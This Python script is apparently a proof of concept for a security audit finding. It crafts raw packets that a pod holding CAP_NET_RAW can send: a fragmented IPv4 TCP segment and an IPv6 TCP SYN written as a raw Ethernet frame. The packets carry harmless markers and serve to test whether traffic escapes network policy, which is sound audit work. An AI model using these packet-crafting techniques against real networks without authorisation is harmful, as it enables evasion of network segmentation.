#!/usr/bin/env python3
"""Crafted packets an attacker with CAP_NET_RAW can send from a pod (issue 12, finding 1).

  fy_raw_send.py frag4 SRC DST DPORT MARKER
      An IPv4 TCP segment (SYN, PSH, a payload of MARKER copies) cut into two fragments,
      sent through a raw IP socket (the kernel routes it and resolves the next hop). Each
      fragment holds whole copies of the marker, so a capture can tell if one crossed.
  fy_raw_send.py tcp6 IFACE DST_MAC MARKER
      An IPv6 TCP SYN with a payload, written as a whole Ethernet frame on IFACE
      (AF_PACKET): no IPv6 address or neighbour is needed to put it on the pod's device.

Prints one line saying what was sent; exits non-zero if the kernel refused to send.
"""
import socket
import struct
import sys


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_segment(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes, pseudo) -> bytes:
    hdr = struct.pack("!HHIIBBHHH", sport, dport, 0x1000, 0, 5 << 4, 0x02 | 0x08, 65535, 0, 0)
    check = csum(pseudo(len(hdr) + len(payload)) + hdr + payload)
    return hdr[:16] + struct.pack("!H", check) + hdr[18:] + payload


def frag4(src: str, dst: str, dport: int, marker: str) -> None:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    body = (marker + "\n").encode() * 24
    seg = tcp_segment(s, d, 40999, dport, body, lambda n: s + d + struct.pack("!BBH", 0, 6, n))
    cut = (len(seg) // 2) // 8 * 8
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ident = 0x4242
    for off, chunk, more in ((0, seg[:cut], True), (cut, seg[cut:], False)):
        flags = (0x2000 if more else 0) | (off // 8)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(chunk), ident, flags, 64, 6, 0, s, d)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        sock.sendto(ip + chunk, (dst, 0))
    print("frag4: sent 2 fragments of a %d-byte TCP segment %s -> %s:%d" % (len(seg), src, dst, dport))


def tcp6(iface: str, dst_mac: str, marker: str) -> None:
    src6 = socket.inet_pton(socket.AF_INET6, "fd00:77::11")
    dst6 = socket.inet_pton(socket.AF_INET6, "fd00:77::21")
    payload = (marker + "\n").encode()
    seg = tcp_segment(src6, dst6, 40998, 8080, payload, lambda n: src6 + dst6 + struct.pack("!I3xB", n, 6))
    ip6 = struct.pack("!IHBB16s16s", 6 << 28, len(seg), 6, 64, src6, dst6)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    src_mac = sock.getsockname()[4]
    frame = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + struct.pack("!H", 0x86DD) + ip6 + seg
    sock.send(frame)
    print("tcp6: sent a %d-byte IPv6 TCP SYN on %s" % (len(frame), iface))


if __name__ == "__main__":
    if len(sys.argv) == 6 and sys.argv[1] == "frag4":
        frag4(sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5])
    elif len(sys.argv) == 5 and sys.argv[1] == "tcp6":
        tcp6(sys.argv[2], sys.argv[3], sys.argv[4])
    else:
        sys.exit(__doc__)
